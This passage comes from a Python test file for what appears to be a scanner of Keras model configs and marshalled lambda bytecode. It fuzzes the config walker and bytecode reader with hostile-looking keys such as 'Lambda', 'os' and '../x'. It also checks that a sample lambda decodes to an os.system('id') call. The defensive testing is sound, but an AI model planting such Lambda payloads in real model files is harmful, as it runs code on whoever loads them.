    keras.examine_config(_keras3_sequential(*[_dense(f"d{i}", 2) for i in range(2000)]), report, "config.json",
                         "config.json")
    assert report.incomplete == ["Keras config.json not walked to the end: the time limit was reached"]


@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
    | st.sampled_from(["Lambda", "__lambda__", "TorchModuleWrapper", "function", "os", "keras.layers", "builtins",
                       "get_file", "StringLookup", "TFOpLambda", "io.write_file", "../x", "4wEAAAA=", "Custom>X"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["class_name", "config", "module", "registered_name", "function", "function_type", "code",
                         "value", "name", "layers", "vocabulary", "filepath", "spec_name", "output_shape"]),
        inner, max_size=6),
    max_leaves=40))
def test_walker_never_raises_on_any_json(document: object) -> None:
    report = _Report()
    keras.examine_config(document, report, "config.json", "config.json")
    assert all(rule.startswith("BST-") for rule, _ in report.findings)


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(st.binary(max_size=300).map(lambda b: b"\xe3" + b))
def test_marshal_reader_never_raises(data: bytes) -> None:
    code_names(data)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.integers(0, 400), st.binary(min_size=1, max_size=4))
def test_marshal_reader_survives_mutated_bytecode(position: int, patch: bytes) -> None:
    original = base64.b64decode(LAMBDA_BYTECODE["3.12"])
    position %= len(original)
    code_names(original[:position] + patch + original[position + len(patch):])


def test_marshal_reader_refuses_hostile_input() -> None:
    assert code_names(b"") is None
    assert code_names(b"\xe3" + b"\xff" * 20) is None  # truncated integers
    assert code_names(b"\xe3" + b"\0" * 24 + b"s\xff\xff\xff\x7f") is None  # a length past the end
    assert code_names(b"\xe3" + b"\0" * 24 + b"r\0\0\0\0") is None  # a reference to an object under construction
    nested = b"\xe3" + b"\0" * 24 + b"(\x01\0\0\0" * 500  # tuples nested past the bound
    assert code_names(nested) is None
    real = code_names(base64.b64decode(LAMBDA_BYTECODE["3.13"]))
    assert real is not None and real.names == ("__import__", "system") and real.strings == ("os", "id")
